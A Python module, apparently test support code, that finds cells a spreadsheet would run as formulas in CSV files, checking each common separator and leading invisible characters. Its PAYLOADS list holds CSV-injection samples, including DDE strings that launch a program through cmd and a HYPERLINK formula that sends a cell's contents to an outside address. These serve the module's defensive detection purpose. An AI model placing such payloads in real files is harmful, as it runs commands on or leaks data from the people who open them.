"""Cells as a spreadsheet takes them from a CSV file, whatever it believes the separator to be."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

PAYLOADS = (
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "＝1+1",
    "x;=1+1;y",
    'x;"=1+1;y',
    "x,=1+1",
    "'=1+1",
    "x|@SUM(1)",
)
_SIGNS = tuple("=+-@＝＋－＠")
_DROPPED = "\ufeff\u200b\u2060"
_NUMBER = re.compile(r"[-+]?([0-9]+([.,][0-9]*)?|[.,][0-9]+)([eE][-+]?[0-9]+)?")


def live_cells(text: str) -> list[str]:
    """Cells that a spreadsheet would run as formulas, with each usual separator; what follows a
    closing quotation mark belongs to the cell, as spreadsheets have it.
    """
    found = []
    for separator in ",;\t|":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator, strict=False):
            found += [cell for cell in row if _is_live(cell)]
    return found


def _is_live(cell: str) -> bool:
    seen = cell
    while seen and (seen[0].isspace() or seen[0] in _DROPPED):
        seen = seen[1:]
    return seen.startswith(_SIGNS) and _NUMBER.fullmatch(seen) is None


def live_tables(folder: Path) -> dict[str, list[str]]:
    """Live cells of every CSV below a folder, by file; copies of the user's own files are as they
    were.
    """
    files = [
        path
        for path in sorted(folder.rglob("*.csv"))
        if "inputs" not in path.relative_to(folder).parts
    ]
    assert files
    found = {path.name: live_cells(path.read_text("utf-8")) for path in files}
    return {name: cells for name, cells in found.items() if cells}
